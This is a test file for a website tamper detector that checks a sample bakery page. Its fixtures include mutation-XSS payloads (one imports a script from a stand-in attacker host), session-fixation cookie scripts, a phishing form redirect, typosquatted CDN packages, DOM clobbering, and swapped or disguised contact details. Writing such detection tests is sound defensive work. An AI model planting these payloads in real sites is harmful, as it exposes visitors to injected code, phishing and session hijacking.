/**
 * The rules of round 11 (tuned on fresh9 after its first look), on the
 * hand-written bakery page: each with the change it catches and the honest
 * change beside it that it leaves alone.
 */
import { describe, expect, it } from "@effect/vitest"
import { cfDecode } from "../../src/internal/extract.js"
import { packageImitated, packageOf, repoImitating } from "../../src/internal/url.js"
import { baselineOf, breaches, checks, page, samples, verdictOf } from "../support/pages.js"

/** Cloudflare's encoding of an address: a key byte, then each character XORed with it, in hex. */
const cfEncode = (address: string, key = 0x5a) =>
  [key, ...[...address].map((c) => c.charCodeAt(0) ^ key)].map((b) => b.toString(16).padStart(2, "0")).join("")

describe("round 11: how the browser reads the page", () => {
  it("an element after an end tag written inside an attribute of <noscript> (mutation XSS) runs: its code is read; honest noscript fallbacks are not", () => {
    const payload = `<noscript><p title="</noscript><img src=x onerror=import('//cdn-assets.example.top/k.js')>"></p></noscript>`
    expect(breaches(verdictOf(page({ seed: 4, body: payload })))).toContain("destinations/inline_script_new_domain")
    const iframe = `<iframe><span class="</iframe><svg onload=eval(atob('YWxlcnQoMSk='))>"></span></iframe>`
    expect(breaches(verdictOf(page({ seed: 4, body: iframe }))).length).toBeGreaterThan(0)
    const fallback = `<noscript><img src="/static/pixel.gif" alt=""><p>Please enable JavaScript to order online.</p></noscript>`
    expect(verdictOf(page({ seed: 4, body: fallback })).alert).toBe(false)
  })

  it("what a declarative shadow root holds is shown: a covering box in it alerts with its text", () => {
    const shadow = `<site-banner><template shadowrootmode="open"><style>div{position:fixed;inset:0;z-index:99999;background:#000;color:#f00}</style><div>This site is ours now. Greetings from the Night Owls.</div></template></site-banner>`
    const v = verdictOf(page({ seed: 4, top: shadow }))
    expect(breaches(v)).toContain("visible_text/page_covered")
    // (a plain <template> is not shown)
    expect(verdictOf(page({ seed: 4, top: `<template id="row"><div>This site is ours now. Greetings from the Night Owls.</div></template>` })).alert).toBe(false)
  })
})

describe("round 11: identifiers in disguise", () => {
  it("Cloudflare-encoded addresses are read as the address visitors see: a swapped one is a changed e-mail address", () => {
    expect(cfDecode(cfEncode("orders@harbourbakery.co.uk"))).toBe("orders@harbourbakery.co.uk")
    expect(cfDecode("zz")).toBe(null)
    const cf = (address: string) => `<p>Questions? <a href="/cdn-cgi/l/email-protection#${cfEncode(address)}"><span class="__cf_email__" data-cfemail="${cfEncode(address)}">[email&#160;protected]</span></a></p>`
    const base = baselineOf(samples((seed) => page({ seed, body: cf("orders@harbourbakery.co.uk") })))
    expect(verdictOf(page({ seed: 4, body: cf("orders@harbourbakery.co.uk") }), base).alert).toBe(false)
    // (the footer still shows the real address: the encoded one is a new address posing as the site's)
    expect(breaches(verdictOf(page({ seed: 4, body: cf("orders@harbour-bakery-billing.com") }), base))).toContain("identifiers/email_impersonation")
    // (in place of the only address shown, it is a changed one)
    const only = baselineOf(samples((seed) => page({ seed, email: "see below", body: cf("orders@harbourbakery.co.uk") })))
    expect(breaches(verdictOf(page({ seed: 4, email: "see below", body: cf("harbourorders@proton.me") }), only))).toContain("identifiers/email_changed")
  })

  it("a mail link that gains a cc or bcc to another mailbox alerts; a subject line, or a copy to the site's own address, does not", () => {
    const mail = (q: string) => `<p><a href="mailto:orders@harbourbakery.co.uk${q}">orders@harbourbakery.co.uk</a></p>`
    const base = baselineOf(samples((seed) => page({ seed, body: mail("") })))
    expect(breaches(verdictOf(page({ seed: 4, body: mail("?bcc=harbour.orders@outlook.com") }), base))).toContain("identifiers/email_copied")
    expect(checks(verdictOf(page({ seed: 4, body: mail("?subject=Cake%20order") }), base))).not.toContain("identifiers/email_copied")
    expect(checks(verdictOf(page({ seed: 4, body: mail("?cc=cakes@harbourbakery.co.uk") }), base))).not.toContain("identifiers/email_copied")
  })

  it("a new number in look-alike digits (fullwidth, mathematical, split by invisible characters, O for 0) alerts; plain digits and years do not", () => {
    for (const n of ["０８００ ９６１ ０６４ １２２", "𝟎𝟖𝟎𝟎 𝟗𝟔𝟏 𝟎𝟔𝟒 𝟏𝟐𝟐", "08\u200b00 9\u200b61 06\u200b4 122", "+44 8OO 961 O64 l22"]) {
      expect(breaches(verdictOf(page({ seed: 4, body: `<p>Support (24/7): <strong>${n}</strong></p>` }))), n).toContain("identifiers/phone_disguised")
    }
    expect(checks(verdictOf(page({ seed: 4, body: `<p>Support (24/7): <strong>0800 961 064 122</strong></p>` })))).not.toContain("identifiers/phone_disguised")
    expect(checks(verdictOf(page({ seed: 4, body: `<p>Open since 1962 – Olympic torch relay 2012 Ol 2024, World War I 1914-1918</p>` })))).not.toContain("identifiers/phone_disguised")
  })

  it("an e-mail address with a Cyrillic letter in its domain is read whole: the swap is a changed address", () => {
    const v = verdictOf(page({ seed: 4, email: "orders@harbourbakеry.co.uk" }))
    expect(breaches(v)).toContain("identifiers/email_changed")
  })
})

describe("round 11: where forms, scripts and packages send visitors", () => {
  it("a hidden return address added to a form sends whoever submits it to a new domain: an alarm; one to the site itself is not", () => {
    const form = (next: string) => `<form action="/newsletter" method="post"><input name="email"><input type="hidden" name="_next" value="${next}"><button>Join</button></form>`
    expect(breaches(verdictOf(page({ seed: 4, body: form("https://harbour-verify.example.top/account/update") })))).toContain("destinations/form_sends_on")
    expect(verdictOf(page({ seed: 4, body: form("https://www.harbourbakery.co.uk/thanks") })).alert).toBe(false)
  })

  it("a script that sets a session cookie to a value it carries alerts (session fixation); a consent cookie does not", () => {
    expect(breaches(verdictOf(page({ seed: 4, body: `<script>document.cookie="PHPSESSID=ah84lfq207iu3m24kqtgsw7t;path=/"</script>` })))).toContain("destinations/script_sets_session")
    expect(breaches(verdictOf(page({ seed: 4, body: `<script>var n="frontend",v="c6lhzl1e92";document.cookie=n+"="+v+";path=/"</script>` })))).toContain("destinations/script_sets_session")
    expect(verdictOf(page({ seed: 4, body: `<script>function ok(){document.cookie="cookie_consent=all;path=/;max-age=31536000"}</script>` })).alert).toBe(false)
  })

  it("a package named like a popular one with a letter off or a word added, or a popular project's repository under another account, alerts", () => {
    expect(packageOf("https://cdn.jsdelivr.net/npm/@popperjs/core@2.11.8/dist/umd/popper.min.js")).toBe("@popperjs/core")
    expect(packageOf("https://unpkg.com/charts.js@4.4.1/dist/chart.umd.js")).toBe("charts.js")
    expect(packageImitated("charts.js")).toBe("chart.js")
    expect(packageImitated("jquerry")).toBe("jquery")
    expect(packageImitated("axios-http-client")).toBe("axios")
    expect(packageImitated("chartjs-plugin-datalabels")).toBe(null)
    expect(packageImitated("vue-router")).toBe(null)
    expect(repoImitating("https://cdn.jsdelivr.net/gh/jquery-official/jquery@3.7.1/jquery.min.js")?.imitates).toBe("jquery")
    expect(repoImitating("https://cdn.jsdelivr.net/gh/jquery/jquery@3.7.1/dist/jquery.min.js")).toBe(null)
    expect(breaches(verdictOf(page({ seed: 4, head: `<script src="https://cdn.jsdelivr.net/npm/lodahs@4.17.21/lodash.min.js"></script>` })))).toContain("destinations/package_lookalike")
    expect(verdictOf(page({ seed: 4, head: `<script src="https://cdn.jsdelivr.net/npm/swiper@11/swiper-bundle.min.js"></script>` })).alert).toBe(false)
  })

  it("a single link whose words are a bought-link vertical (an essay mill) alerts; a link to a bakery supplier does not", () => {
    expect(breaches(verdictOf(page({ seed: 4, body: `<p class="sponsored"><a href="https://paperexperts.example.co.uk/nursing-assignment-help">Nursing assignment help</a></p>` })))).toContain("destinations/spam_links")
    expect(verdictOf(page({ seed: 4, body: `<p>Our flour: <a href="https://www.yorkshiremill.co.uk/flour">Yorkshire Mill</a></p>` })).alert).toBe(false)
  })
})

describe("round 11: who the page has visitors deal with", () => {
  it("a chat widget on a page that had none is a sign: with a lure beside it, an alarm; alone, not", () => {
    const widget = `<script async src="https://cdn.livechatinc.com/tracking.js"></script>`
    const alone = verdictOf(page({ seed: 4, head: widget }))
    expect(alone.findings.find((f) => f.check === "chat_added")?.severity).toBe("medium")
    expect(alone.alert).toBe(false)
    const lure = `<div style="background:#fdecea;padding:12px">⚠ Your order is on hold: we could not confirm your payment. Chat with our billing team now to avoid cancellation.</div>`
    expect(verdictOf(page({ seed: 4, head: widget, top: lure })).alert).toBe(true)
  })

  // (round 24: a messenger account is an alarm even named once; a free-mail address named once is a sign, round9.test.ts)
  it("one private contact named in several testimonials alerts; a messenger account named once alerts too (round 24)", () => {
    const says = (who: string, what: string) => `<div class="comment"><p><strong>${who}</strong></p><p>${what} Contact him: Telegram @recovery_kev</p></div>`
    const three = says("Linda W.", "He changed my grades overnight.") + says("Sarah C.", "He got my money back from a broker.") + says("Jess M.", "He fixed my credit score.")
    expect(verdictOf(page({ seed: 4, body: three })).findings.find((f) => f.check === "private_contact")?.severity).toBe("high")
    expect(verdictOf(page({ seed: 4, body: says("Linda W.", "Great service.") })).findings.find((f) => f.check === "private_contact")?.severity).toBe("high")
  })

  it("a notice framed by a thick coloured border at the top of the page, sending visitors to a new domain, alerts", () => {
    const notice = `<div style="border:3px solid #1d70b8;padding:14px"><h2>Important information for customers</h2><p>Because of a system upgrade, all orders this week must be confirmed again.</p><p><a href="https://harbour-orders-confirm.example.top/">Confirm your order</a></p></div>`
    expect(breaches(verdictOf(page({ seed: 4, top: notice })))).toContain("destinations/link_prominent")
  })

  it("a new empty link named like a script setting (DOM clobbering) alerts; an empty anchor for the page's own sections does not", () => {
    expect(breaches(verdictOf(page({ seed: 4, body: `<a id="siteConfig" href="https://cfg-cdn.example.top/cfg"></a>` })))).toContain("destinations/named_invisible")
    expect(verdictOf(page({ seed: 4, body: `<a id="opening-hours" href="/visit#hours"></a>` })).alert).toBe(false)
  })

  it("links that sell followers and views, captioned as a panel, alert as spam", () => {
    const list = `<ul class="blogroll"><li><a href="https://cheapviews24.example.xyz/facebook-page-likes">Facebook page likes</a></li><li><a href="https://mega-653.example.in/buy-instagram-followers">Buy Instagram followers</a></li><li><a href="https://panelone.example.co/youtube-watch-hours">YouTube watch hours</a></li><li>#1 SMM panel — instant start</li></ul>`
    expect(breaches(verdictOf(page({ seed: 4, body: list })))).toContain("destinations/spam_links")
  })
})
